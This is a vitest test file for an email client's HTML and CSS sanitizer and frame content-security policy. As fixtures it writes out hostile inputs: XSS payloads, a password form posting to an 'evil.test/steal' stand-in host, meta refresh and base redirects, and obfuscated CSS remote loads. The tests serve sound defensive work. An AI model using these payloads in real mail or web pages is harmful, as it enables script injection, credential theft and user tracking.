import { describe, expect, it } from 'vitest';
import { frameCsp, sanitizeCss, sanitizeMailHtml } from './sanitize.js';

const opts = { allowRemote: false, cidUrl: (id: string) => (id === 'logo@x' ? '/part?f=INBOX&u=1&p=2' : null) };

describe('sanitizeMailHtml', () => {
  it('removes scripts, handlers, javascript: links, forms, frames and document-level tags', () => {
    const hostile = [
      '<html><head><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">',
      '<link rel="stylesheet" href="http://evil.test/x.css"><script>window.pwned=1</script></head>',
      '<body onload="pwned()"><p onclick="alert(1)" onmouseover="alert(2)">Hello</p>',
      '<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt:alert(1)">js2</a><a href="data:text/html,<script>1</script>">d</a>',
      '<a href="vbscript:x">v</a><a href="https://ok.test/">ok</a>',
      '<form action="http://evil.test/steal"><input name="pw"><button>Send</button></form>',
      '<iframe src="http://evil.test/"></iframe><object data="x"></object><embed src="x"><svg><script>1</script></svg>',
      '<img src="x" onerror="alert(1)"><math><mi xlink:href="javascript:alert(1)">m</mi></math>',
      '<style>@import url(http://evil.test/a.css); body{background:url(http://evil.test/b.png)} p{color:red}</style>',
      '<div style="background-image:url(http://evil.test/c.png);color:blue;position:fixed">s</div>',
      '</body></html>',
    ].join('');
    const { html } = sanitizeMailHtml(hostile, opts);
    expect(html).not.toMatch(
      /<script|onload|onclick|onmouseover|onerror|javascript:|vbscript:|data:text|<form|<input|<button|<iframe|<object|<embed|<svg|<math|<base|<meta|<link|@import|evil\.test|position/i,
    );
    expect(html).toContain('Hello');
    expect(html).toContain('href="https://ok.test/"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('color:blue');
    expect(html).toContain('p{color:red}');
  });

  it('blocks remote images unless asked, and counts them', () => {
    const input =
      '<img src="http://img.test/a.png"><img src="https://img.test/b.png"><img src="//img.test/c.png"><img src="data:image/png;base64,iVBORw0KGgo=">';
    const blocked = sanitizeMailHtml(input, opts);
    expect(blocked.blockedRemote).toBe(3);
    expect(blocked.html).not.toContain('img.test');
    expect(blocked.html).toContain('data:image/png;base64,iVBORw0KGgo=');
    const shown = sanitizeMailHtml(input, { ...opts, allowRemote: true });
    expect(shown.blockedRemote).toBe(1); // protocol-relative stays out
    expect(shown.html).toContain('src="http://img.test/a.png"');
    expect(shown.html).toContain('src="https://img.test/b.png"');
  });

  it('turns cid: images into part URLs and drops unknown ones', () => {
    const { html } = sanitizeMailHtml('<img src="cid:logo@x" alt="logo"><img src="cid:nope">', opts);
    expect(html).toContain('src="/part?f=INBOX&amp;u=1&amp;p=2"');
    expect(html.match(/src=/g)?.length).toBe(1);
  });

  it('refuses data: images that are not pictures', () => {
    const { html } = sanitizeMailHtml('<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml;base64,PHN2Zz4=">', opts);
    expect(html).not.toContain('data:');
  });
});

describe('sanitizeCss', () => {
  it('removes escapes that spell url(', () => {
    const r = sanitizeCss('p{background:\\75 rl(http://evil.test/x)}', false);
    expect(r.css).not.toContain('evil.test');
  });
  it('leaves no remote load in any spelling the browser would still read', () => {
    const css = [
      'a{background:url("http://e1.evil.test/a)b")}',
      'b{background:image-set("http://e2.evil.test/x.png" 1x)}',
      'c{background:src("http://e3.evil.test/x")}',
      '@namespace svg url(http://e4.evil.test/ns);',
      'd{background:/* x */url(//e5.evil.test/x)}',
      'e{background:url(http://e6.evil.test/cut-off',
    ].join('\n');
    expect(sanitizeCss(css, false).css).not.toContain('evil.test');
  });
  it('releases with "Show images" only what paints an image, and counts exactly that when blocked', () => {
    const css =
      'p{background:url(https://x.test/bg.png)} li{list-style-image:url("https://x.test/dot.png")}' +
      ' a:hover{background:url(https://x.test/hover.png)} q{cursor:url(https://x.test/c.cur),auto}' +
      ' @font-face{font-family:f;src:url(https://x.test/f.woff)}';
    const shown = sanitizeCss(css, true).css;
    expect(shown).toContain('https://x.test/bg.png');
    expect(shown).toContain('https://x.test/dot.png');
    for (const never of ['hover.png', 'c.cur', 'f.woff']) expect(shown).not.toContain(never);
    expect(sanitizeCss(css, false)).toMatchObject({ blocked: 2 });
    expect(sanitizeCss(css, false).css).not.toContain('x.test');
  });
  it('keeps http(s) url() only when remote loads are allowed', () => {
    expect(sanitizeCss('a{background:url("https://x.test/y.png")}', true).css).toContain('https://x.test/y.png');
    expect(sanitizeCss('a{background:url(javascript:alert(1))}', true).css).not.toContain('javascript');
  });
});

describe('frameCsp', () => {
  it('forbids scripts and remote loads by default', () => {
    expect(frameCsp(false)).toContain("script-src 'none'");
    expect(frameCsp(false)).not.toContain('http:');
    expect(frameCsp(true)).toContain('img-src');
  });
});
